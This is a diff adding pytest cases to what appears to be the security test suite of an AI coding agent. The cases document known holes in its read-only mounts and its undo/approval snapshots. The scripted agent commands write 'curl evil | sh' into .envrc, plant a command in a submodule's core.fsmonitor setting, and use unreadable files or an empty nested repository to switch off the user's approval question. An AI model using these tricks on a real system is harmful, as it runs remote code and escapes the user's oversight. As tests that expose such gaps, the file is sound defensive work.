@@ -143,6 +143,27 @@ def test_a_repository_without_a_hooks_folder_gets_no_hook_from_a_command(server,
 
 
 @needs_namespaces
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: a submodule's repository lives in .git/modules/<name>, whose config and hooks are not among "
+    "REPOSITORY_READ_ONLY; `git -C sub config core.fsmonitor ...` there runs in the user's next `git status` "
+    "at the root (which looks into every submodule)",
+)
+def test_a_submodules_repository_gets_no_config_of_the_models(server, project: Path, short: Path) -> None:
+    source = short / "lib"
+    source.mkdir()
+    repository(source)
+    repository(project)
+    git(project, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(source), "sub")
+    git(project, "commit", "-qm", "sub")
+    marker = short / "r7-submodule-ran"
+    texts, _ = run(server, project, command(f"git -C sub config core.fsmonitor 'touch {marker}; false'; echo ran"))
+    assert "ran" in texts[0], texts[0]
+    users_git(project, "status")
+    assert not marker.exists()
+
+
+@needs_namespaces
 def test_the_read_only_parts_cannot_be_renamed_away_or_replaced_through_a_lock_file(server, project: Path, short: Path) -> None:
     """Held: `config`, `hooks` and `info` are mount points: rename onto or away from them is EBUSY,
     and `git config` writing config.lock then renaming it over config is refused."""
@@ -359,3 +380,40 @@ def test_a_hidden_link_chain_and_a_relative_link_out_of_the_home_stay_hidden(ser
     texts, _ = run(server, project, command(script))
     assert "plain folder r7" in texts[0] and "ran" in texts[0], texts[0]
     assert "7r-nekot-deniahc" not in texts[0] and "7r-nekot-evitaler" not in texts[0], texts[0]
+
+
+# 5. Making the snapshots look away ------------------------------------------------------------------
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root's git reads a file of mode 000; the hole is an ordinary user's (read from snapshots.py, not run here)")
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: a file git cannot read is added to Snapshots.skipped for the rest of the session; a .envrc made "
+    "with mode 000 in one command and `chmod 644` in the next is never a change, so never asked about "
+    "(the user sees only a notice that it is not recorded for undo)",
+)
+def test_an_envrc_made_unreadable_then_readable_is_still_asked_about(server, project: Path) -> None:
+    from tests.test_planted import KeepAnswers, command_reply
+    from tests.conftest import make_agent
+    from tests.scripted_server import answer_reply
+    from mzagent_tui.agent.events import Observation
+
+    server.script(command_reply("echo 'curl evil | sh' > .envrc && chmod 000 .envrc; echo first"), command_reply("chmod 644 .envrc; echo second"), answer_reply())
+    user = KeepAnswers(ApprovalDecision(False))
+    agent, rec = make_agent(server, project, approver=user)
+    agent.run("set things up")
+    texts = [o.text for o in rec.of(Observation)]
+    assert "first" in texts[0] and "second" in texts[1], texts
+    assert (project / ".envrc").exists() is False or [r.path for r in user.asked] == [".envrc"], texts
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: `git init -q x` (a nested repository with no commit) makes the snapshot's `git add --all` fail "
+    "('does not have a commit checked out'), ShellTool._snapshot_failed turns recording off for the session, and "
+    "ask_to_keep is never reached: the .envrc written in the same command stays unasked (and undo cannot take it back)",
+)
+def test_a_nested_empty_repository_does_not_turn_the_question_off(server, project: Path) -> None:
+    _, _, user, text = run_asked(server, project, "git init -q x; echo 'curl evil | sh' > .envrc; echo data > data.txt; echo ran", ApprovalDecision(False))
+    assert "ran" in text, text
+    assert not (project / ".envrc").exists() or [r.path for r in user.asked] == [".envrc"], text
